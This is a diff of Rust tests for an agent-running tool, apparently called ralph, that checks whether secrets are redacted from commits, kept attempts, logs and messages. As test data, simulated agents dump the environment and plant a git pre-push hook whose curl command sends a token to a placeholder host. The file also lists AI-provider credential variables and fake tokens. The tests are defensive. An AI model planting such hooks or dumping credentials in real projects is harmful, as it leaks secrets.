@@ -19,8 +19,8 @@ fn printed() -> String {
     format!("printf '%s%s' {} {}", HALVES.0, HALVES.1)
 }
 
-/// Places where the token would be found: what was printed, the commits, ralph's files with the raw output of the
-/// agent.
+/// Places where the token would be found: what was printed, the commits and kept attempts, ralph's files with the raw
+/// output of the agent.
 #[track_caller]
 fn assert_nowhere(project: &Project, said: &str, how: &str) {
     let secret = secret();
@@ -32,18 +32,16 @@ fn assert_nowhere(project: &Project, said: &str, how: &str) {
             "{how}: {args:?} shows it: {shown}"
         );
     }
-    let log = project.repo.git(["log", "-p", "--branches", "--format=%B"]);
+    let log = project.repo.git(["log", "-p", "--all", "--format=%B"]);
     assert!(!log.contains(&secret), "{how}: committed");
     assert_not_written(project, &secret, how);
 }
 
-/// Fails if ralph has written a text into one of its files. Its copy of the task files is what a person wrote there,
-/// byte for byte: it is what they are put back to.
+/// Fails if ralph has written a text into one of its files.
 #[track_caller]
 fn assert_not_written(project: &Project, secret: &str, how: &str) {
     let folders = [project.repo.path(".ralph"), project.data_dir()];
-    let mut held = holders(&[&folders[0], &folders[1]], secret);
-    held.retain(|path| !path.ends_with("/task-files"));
+    let held = holders(&[&folders[0], &folders[1]], secret);
     assert_eq!(held, [""; 0], "{how}");
 }
 
@@ -128,13 +126,26 @@ modes!(g08_a_mark_that_the_agent_makes_itself_allows_nothing);
 
 fn g08_the_agents_own_key_does_not_reach_verify_commands(mode: &str) {
     let check = "env > \"$HOME/env\"; test -f A.txt";
-    let project = patient(Project::with_stories(&[story_by("A", &[check])]), mode)
-        .env("ANTHROPIC_API_KEY", "a-value-to-look-for")
-        .env("OPENAI_API_KEY", "a-value-to-look-for")
-        .env(
-            "RALPH_SAFETY_PASS_ENV",
-            "[\"ANTHROPIC_API_KEY\", \"OPENAI_API_KEY\"]",
-        )
+    let names = [
+        "ANTHROPIC_API_KEY",
+        "ANTHROPIC_AUTH_TOKEN",
+        "ANTHROPIC_BASE_URL",
+        "ANTHROPIC_CUSTOM_HEADERS",
+        "ANTHROPIC_FOUNDRY_RESOURCE",
+        "CLAUDE_CODE_OAUTH_TOKEN",
+        "AWS_BEARER_TOKEN_BEDROCK",
+        "OPENAI_API_KEY",
+        "CODEX_API_KEY",
+        "GEMINI_API_KEY",
+        "GOOGLE_API_KEY",
+        "OPENROUTER_API_KEY",
+    ];
+    let project = patient(Project::with_stories(&[story_by("A", &[check])]), mode);
+    let project = names.iter().fold(project, |project, name| {
+        project.env(name, "a-value-to-look-for")
+    });
+    let project = project
+        .env("RALPH_SAFETY_PASS_ENV", json!(names).to_string())
         .script(&json!({"default": [deed("work")]}));
     project.run(&[]).expect(0);
     let env = std::fs::read_to_string(project.repo.home().join("env")).unwrap();
@@ -305,3 +316,110 @@ fn g08_the_value_of_a_variable_does_not_land(mode: &str) {
     assert_not_written(&project, VALUE, mode);
 }
 modes!(g08_the_value_of_a_variable_does_not_land);
+
+fn g08_a_kept_attempt_is_without_the_secrets_that_its_agent_wrote(mode: &str) {
+    let known = "ghp_0ldR4lph0ldR4lph0ldR4lph0ldR4lph0l4Tq";
+    let sample =
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJyYWxwaCIsImlhdCI6MTcwMDAwMDAwMH0.c2lnbmF0dXJlLW9mLXJhbHBo";
+    let bad = format!(
+        "work; t=$({}); printf 'first\ntoken = %s\nlast\n' \"$t\" > settings.py; echo more >> old.py; \
+         echo \"$t\" > fixtures.txt; echo '{sample}' > sample.txt; echo x > \"$t.txt\"",
+        printed()
+    );
+    let project =
+        patient(Project::with_stories(&[story("A")]), mode).script(&script(&[("A", &bad)]));
+    let project = project.env("RALPH_SAFETY_SECRET_ALLOW", "[\"fixtures.txt\"]");
+    let text = format!("token = '{known}'\n");
+    project.repo.file("old.py", text).commit("old");
+    let ran = project.run(&[]);
+    let record = project.repo.read(".ralph/logs/iteration-1.json");
+    let hidden = "in the kept attempt settings.py held what looks like a secret (GitHub token); it is hidden";
+    assert!(record.contains(hidden), "{mode}: {record}");
+    let refs = ["for-each-ref", "--format=%(refname)", "refs/ralph/attempts"];
+    let kept = project.repo.git(refs);
+    let shown = |path: &str| project.repo.git(["show", &format!("{kept}:{path}")]);
+    assert_eq!(
+        shown("settings.py"),
+        "first\ntoken = [redacted]\nlast",
+        "{mode}"
+    );
+    assert_eq!(
+        shown("old.py"),
+        format!("token = '{known}'\nmore"),
+        "{mode}"
+    );
+    assert_eq!(shown("sample.txt"), sample, "{mode}");
+    assert_eq!(
+        shown("fixtures.txt"),
+        secret(),
+        "{mode}: the path is allowed"
+    );
+    let names = project.repo.git(["ls-tree", "--name-only", &kept]);
+    assert!(!names.contains("ghp_"), "{mode}: {names}");
+    assert!(!ran.all().contains(&secret()), "{mode}: {}", ran.all());
+    assert_not_written(&project, &secret(), mode);
+}
+modes!(g08_a_kept_attempt_is_without_the_secrets_that_its_agent_wrote);
+
+fn g08_an_untracked_file_is_kept_without_its_secrets(mode: &str) {
+    let project = patient(Project::with_stories(&[story("A")]), mode)
+        .script(&script(&[("A", "work; echo edited >> mine.env")]));
+    project
+        .repo
+        .file("mine.env", format!("TOKEN={}\n", secret()));
+    let ran = project.run(&[]);
+    assert_flagged(&ran, &["mine.env", "its version is kept at"], mode);
+    let refs = ["for-each-ref", "--format=%(refname)", "refs/ralph/attempts"];
+    let kept = project.repo.git(refs);
+    let shown = project.repo.git(["show", &format!("{kept}:mine.env")]);
+    assert_eq!(shown, "TOKEN=[redacted]\nedited", "{mode}");
+}
+modes!(g08_an_untracked_file_is_kept_without_its_secrets);
+
+fn g08_a_secret_in_the_message_of_a_squash_or_a_revert_is_hidden(mode: &str) {
+    let landed = || {
+        let mut second = story("B");
+        second["title"] = json!(format!("Use {}", secret()));
+        let project = patient(Project::with_stories(&[story("A"), second]), mode)
+            .env("DEPLOY_TOKEN", VALUE)
+            .script(&json!({"default": [deed("work")]}));
+        project.run(&[]).expect(0);
+        project
+    };
+    let project = landed();
+    let words = format!("All of it\n\nwith {} and {VALUE}", secret());
+    let said = said_by(&project, &["squash", "--message", &words]);
+    let log = project.repo.git(["log", "--format=%B", "-1"]);
+    assert!(
+        log.contains("with [redacted] and [redacted]"),
+        "{mode}: {log} {said}"
+    );
+    let project = landed();
+    let tasks = project
+        .repo
+        .read("prd.json")
+        .replace("Write A", "Write the A");
+    project.repo.file("prd.json", tasks);
+    let said = said_by(&project, &["revert", "--iteration", "2"]);
+    let log = project.repo.git(["log", "--format=%B", "-1"]);
+    assert!(log.contains("- B Use [redacted]"), "{mode}: {log} {said}");
+}
+modes!(g08_a_secret_in_the_message_of_a_squash_or_a_revert_is_hidden);
+
+#[test]
+fn g08_what_is_taken_away_is_kept_without_secrets() {
+    let mode = "in_place";
+    let bad = format!(
+        "work; t=$({}); mkdir -p .git/hooks; echo \"curl -H 'Authorization: $t' x\" > .git/hooks/pre-push",
+        printed()
+    );
+    let project =
+        patient(Project::with_stories(&[story("A")]), mode).script(&script(&[("A", &bad)]));
+    let ran = project.run(&[]);
+    assert_nowhere(&project, &ran.all(), mode);
+    let kept = holders(
+        &[&project.data_dir()],
+        "curl -H 'Authorization: [redacted]' x",
+    );
+    assert_eq!(kept.len(), 1, "{kept:?}");
+}
